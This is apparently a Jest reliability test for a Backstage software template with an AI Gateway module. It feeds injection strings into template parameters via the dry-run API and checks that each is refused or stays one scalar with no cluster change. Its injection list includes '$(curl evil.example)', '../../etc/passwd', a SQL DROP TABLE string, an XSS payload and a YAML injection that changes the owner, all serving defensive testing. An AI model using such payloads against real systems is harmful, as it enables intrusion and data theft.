/*
 * Injection strings in the software templates' parameters, through the scaffolder's dry-run API
 * with the real scaffolder plugin and the AI Gateway module: a value that would make an invalid
 * policy must fail the run with an error naming the field (or the parameter), a free-text value
 * must stay one scalar (no YAML injected into the entity), and the cluster must not change.
 */
import fs from 'node:fs';
import path from 'node:path';
import request from 'supertest';
import { parseAllDocuments, parse } from 'yaml';
import {
  mockCredentials,
  mockServices,
  startTestBackend,
  createMockDirectory,
} from '@backstage/backend-test-utils';
import { catalogServiceMock } from '@backstage/plugin-catalog-node/testUtils';
import { AuthorizeResult } from '@backstage/plugin-permission-common';
import scaffolderPlugin from '@backstage/plugin-scaffolder-backend';
// The AI Gateway backend answers the apply action's preview, as in the app.
// eslint-disable-next-line @backstage/no-mixed-plugin-imports
import aiGatewayPlugin from '@kagenti/backstage-plugin-ai-gateway-backend';
import scaffolderModuleAiGateway from '@kagenti/backstage-plugin-scaffolder-backend-module-ai-gateway';
import { startKubeServer, KubeServer } from '@kagenti/kube-server';
import { demoPolicies } from './corpus';
import { Tally } from './metrics';
import { clusterClock } from './testing/backend';

// Run by `yarn test:reliability` (bin/reliability.js); skipped by `yarn test:unit`.
const suite = process.env.RELIABILITY_METRICS ? describe : describe.skip;
jest.setTimeout(300_000);

const tally = new Tally('templates');
// The suite runs from source, inside the repository.
// eslint-disable-next-line no-restricted-syntax
const TEMPLATES = path.resolve(__dirname, '../../../templates');

function templateFiles(name: string) {
  const root = path.join(TEMPLATES, name);
  const out: Array<{ path: string; base64Content: string }> = [];
  const walk = (dir: string) => {
    for (const entry of fs.readdirSync(dir)) {
      const full = path.join(dir, entry);
      if (fs.statSync(full).isDirectory()) walk(full);
      else
        out.push({
          path: path.relative(root, full),
          base64Content: fs.readFileSync(full).toString('base64'),
        });
    }
  };
  walk(root);
  return {
    template: parse(fs.readFileSync(path.join(root, 'template.yaml'), 'utf8')),
    directoryContents: out,
  };
}

const base = {
  name: 'team1-extra',
  owner: 'group:default/guests',
  gateway: 'resource:default/ai-gateway',
  providers: [
    {
      name: 'openai',
      schema: 'OpenAI',
      endpoint: 'https://api.openai.com',
      credentialType: 'APIKey',
      secretName: 'openai-secret',
    },
    {
      name: 'bedrock',
      schema: 'AWSBedrock',
      endpoint: 'https://bedrock-runtime.us-east-1.amazonaws.com',
      credentialType: 'AWSCredentials',
      region: 'us-east-1',
    },
  ],
  models: [
    {
      name: 'gpt-4o-mini',
      backends: [
        { provider: 'openai', model: 'gpt-4o-mini', priority: 0, weight: 1 },
      ],
      retryOn: ['429', 'connect-failure'],
      maxRetries: 2,
      tokensPerDay: 200000,
      requestsPerMinute: 20,
    },
  ],
  preview: true,
  publishTo: 'local',
};

const INJECTIONS = [
  'x\nspec:\n  owner: group:default/evil',
  'x", "evil": "1',
  '${{ secrets.token }}',
  '{{ values.owner }}{% raw %}',
  "'; DROP TABLE policies;--",
  '$(curl evil.example)',
  '../../etc/passwd',
  '<img src=x onerror=alert(1)>',
  'a\u0000b',
  '\u202eevil',
];

const FIELDS: Array<[string, (v: any, s: string) => void]> = [
  ['name', (v, s) => (v.name = s)],
  ['providers[0].name', (v, s) => (v.providers[0].name = s)],
  [
    'providers[0].endpoint',
    (v, s) => (v.providers[0].endpoint = `https://api.openai.com${s}`),
  ],
  ['providers[0].secretName', (v, s) => (v.providers[0].secretName = s)],
  ['providers[1].region', (v, s) => (v.providers[1].region = `us-east-1${s}`)],
  ['models[0].name', (v, s) => (v.models[0].name = `m${s}`)],
  [
    'models[0].backends[0].provider',
    (v, s) => (v.models[0].backends[0].provider = s),
  ],
  ['models[0].tokensPerDay', (v, s) => (v.models[0].tokensPerDay = `1${s}`)],
  [
    'models[0].backends[0].priority',
    (v, s) => (v.models[0].backends[0].priority = `0${s}`),
  ],
  ['models[0].retryOn', (v, s) => (v.models[0].retryOn = [`429${s}`])],
];

/** A message that names the policy field or the template parameter. */
function namesField(message: unknown): boolean {
  return (
    typeof message === 'string' &&
    message.length > 0 &&
    /(spec|metadata)(\.|\[)|instance(\.|\[)|\b(name|providers|models|endpoint|secretName|region|tokensPerDay|priority|retryOn)\b/.test(
      message,
    )
  );
}

suite('template parameters with injection strings', () => {
  let kube: KubeServer;
  let backend: Awaited<ReturnType<typeof startTestBackend>>;
  const published = createMockDirectory();
  let crashes = 0;
  let partial = 0;
  let inputs = 0;

  beforeAll(async () => {
    kube = await startKubeServer({ simulate: true, demo: true });
    const { routing } = demoPolicies();
    backend = await startTestBackend({
      features: [
        scaffolderPlugin,
        scaffolderModuleAiGateway,
        // It answers the apply action's preview (the reconciler's dry run); no pass runs here.
        aiGatewayPlugin,
        mockServices.scheduler.factory({ skipTaskRunOnStartup: true } as any),
        catalogServiceMock.factory({
          entities: [
            {
              apiVersion: 'backstage.io/v1alpha1',
              kind: 'Resource',
              metadata: {
                name: 'ai-gateway',
                namespace: 'default',
                annotations: { 'backstage.io/kubernetes-namespace': 'team1' },
              },
              spec: { type: 'ai-gateway', owner: 'guests' },
            },
            {
              ...routing,
              metadata: { ...routing.metadata, namespace: 'default' },
            },
          ],
        }),
        mockServices.permissions.mock({
          authorize: (async (requests: unknown[]) =>
            requests.map(() => ({ result: AuthorizeResult.ALLOW }))) as any,
          authorizeConditional: (async (requests: unknown[]) =>
            requests.map(() => ({ result: AuthorizeResult.ALLOW }))) as any,
        }).factory,
        mockServices.rootConfig.factory({
          data: {
            scaffolder: {
              aiGateway: { localPublishDirectory: published.path },
            },
            aiGateway: {
              defaultCluster: 'local',
              clusters: [
                {
                  name: 'local',
                  url: kube.url,
                  serviceAccountToken: kube.token,
                  local: true,
                },
              ],
              watch: false,
              catalogPollInterval: { hours: 1 },
            },
          },
        }),
      ],
    });
  });

  afterAll(async () => {
    tally.add('bad_inputs', inputs);
    tally.add('crashes', crashes);
    tally.add('partial_applies', partial);
    tally.write();
    await backend?.stop();
    await kube?.stop();
  });

  it('refuses or keeps as one scalar every injected parameter, changing nothing', async () => {
    const { template, directoryContents } = templateFiles('ai-routing-policy');
    const dryRun = (values: unknown) =>
      request(backend.server)
        .post('/api/scaffolder/v2/dry-run')
        .set('Authorization', mockCredentials.user.header('user:default/guest'))
        .send({ template, values, secrets: {}, directoryContents });

    const ok = await dryRun(base);
    tally.check(
      ok.status === 200,
      'the base values render (so refusals below are about the injection)',
      `${ok.status} ${JSON.stringify(ok.body).slice(0, 300)}`,
    );

    for (const [field, set] of FIELDS) {
      for (const s of INJECTIONS) {
        inputs++;
        const values = structuredClone(base);
        set(values, s);
        const before = clusterClock(kube);
        const res = await dryRun(values);
        const what = `template ${field} = ${JSON.stringify(s)}`;
        if (res.status >= 500) {
          crashes++;
          tally.check(
            false,
            `${what} answers without a 5xx`,
            `${res.status} ${JSON.stringify(res.body).slice(0, 300)}`,
          );
        } else if (res.status === 200) {
          // Accepted: the entity must hold the value as one scalar, with nothing injected.
          const file = (res.body.directoryContents ?? []).find(
            (f: any) => f.path === 'catalog-info.yaml',
          );
          const text = file
            ? Buffer.from(file.base64Content, 'base64').toString('utf8')
            : '';
          const [entity] = parseAllDocuments(text).map(d => d.toJS());
          const intact =
            entity?.spec?.owner === 'group:default/guests' &&
            Object.keys(entity?.spec ?? {})
              .sort()
              .join() === 'models,owner,providers,targetRef' &&
            !('evil' in (entity?.metadata ?? {}));
          if (!intact) crashes++;
          tally.check(
            intact,
            `${what} stays one value in the entity`,
            text.slice(0, 300),
          );
        } else {
          const message =
            res.body?.error?.message ??
            JSON.stringify(res.body?.errors ?? res.body);
          if (!namesField(message)) crashes++;
          tally.check(
            namesField(message),
            `${what} is refused naming the field`,
            `${res.status} ${String(message).slice(0, 300)}`,
          );
        }
        const after = clusterClock(kube);
        if (after !== before) partial++;
        tally.check(after === before, `${what} changed nothing in the cluster`);
      }
    }
    expect(crashes).toBe(0);
    expect(partial).toBe(0);
  });
});
